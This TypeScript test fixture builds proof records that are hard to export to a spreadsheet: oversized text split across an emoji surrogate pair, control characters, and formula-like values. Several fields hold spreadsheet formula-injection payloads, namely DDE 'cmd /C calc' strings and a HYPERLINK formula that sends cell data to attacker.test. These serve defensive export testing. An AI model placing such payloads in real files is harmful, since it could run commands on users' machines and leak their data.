import type { NewProofRow } from "../../src/database/database-schema.js";

/** A character outside the Basic Multilingual Plane: two UTF-16 code units that must never be split. */
const pile = "💩";

/**
 * Proofs whose text is hard to carry into a spreadsheet: longer than a cell may be (with a
 * surrogate pair across the cut), control characters, CR, a literal OOXML escape, an amount
 * with 78 digits, and text that a spreadsheet would take for a formula.
 */
export function awkwardProofRows(): NewProofRow[] {
  const created = (second: number) => new Date(Date.UTC(2024, 11, 31, 23, 59, second, 123));
  // 32,753 characters before the marker: the pair starts at index 32,753 (the first unit is the
  // last that fits) so a naive cut would leave half a pair.
  const longComment = "c".repeat(32_767 - "… [truncated]".length - 1) + pile + "d".repeat(10_000);
  return [
    {
      id: "00000000-0000-4000-8000-000000000001",
      kind: "signature",
      status: "VERIFIED",
      created_at: created(1),
      updated_at: created(2),
      customer_id: "=cmd|' /C calc'!A0",
      asset: "DTI4H95J0R2X",
      address: "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq",
      comment: longComment,
      format: "P2WPKH",
      message: "+line one\r\nline two\u0001\u0007 _x0041_ stays",
      signature: "@SUM(1+1)*cmd|' /C calc'!A0",
      xpub: "-2+3+cmd|' /C calc'!A0",
    },
    {
      id: "00000000-0000-4000-8000-000000000002",
      kind: "satoshi",
      status: "SUBMITTED",
      created_at: created(3),
      updated_at: created(4),
      due_at: new Date(Date.UTC(2025, 0, 2, 0, 0, 0, 999)),
      customer_id: "\t=1+1",
      asset: "DTIX9J9K872S",
      address: "0x00000000219ab540356cBB839Cbe05303d7705Fa",
      comment: '\r=HYPERLINK("http://attacker.test/?"&A1,"open")',
      amount: "9".repeat(78),
      deposit_address: "@deposit",
      tx_id: "-0x" + "ab".repeat(32),
      assessment: null,
    },
  ];
}
